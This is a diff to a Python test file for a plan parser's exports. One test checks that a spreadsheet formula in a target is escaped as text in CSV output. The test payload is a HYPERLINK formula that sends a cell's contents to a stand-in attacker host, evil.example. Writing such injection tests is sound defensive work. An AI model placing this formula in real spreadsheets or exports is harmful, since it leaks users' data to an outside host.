@@ -38,7 +38,7 @@ OUR_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "ul", 
 
 
 def _plan(text: str):
-    injected = SEED.replace(TARGET, f"-{text} {TARGET[1:]}", 1).replace(TITLE, f"{TITLE} {text}", 1)
+    injected = SEED.replace(TARGET, f"- {text} {TARGET[1:]}", 1).replace(TITLE, f"{TITLE} {text}", 1)
     return parse_text(injected, name="injected.txt")
 
 
@@ -91,7 +91,9 @@ def test_markup_in_a_plan_is_shown_as_written_in_the_terminal():
 
 
 def test_a_formula_in_a_target_is_text_in_every_export(tmp_path):
-    plan = _plan('=HYPERLINK("http://evil.example/?x="&B2,"bấm")')
+    formula = '=HYPERLINK("http://evil.example/?x="&B2,"bấm")'
+    plan = parse_text(SEED.replace(TARGET, f"{formula} {TARGET[1:]}", 1), name="formula.txt")
+    assert plan.targets[0].text.startswith(formula)
     table = rows(plan, Kind.targets)
     write(tmp_path / "t.csv", Kind.targets, table, [])
     assert "'=HYPERLINK(" in (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
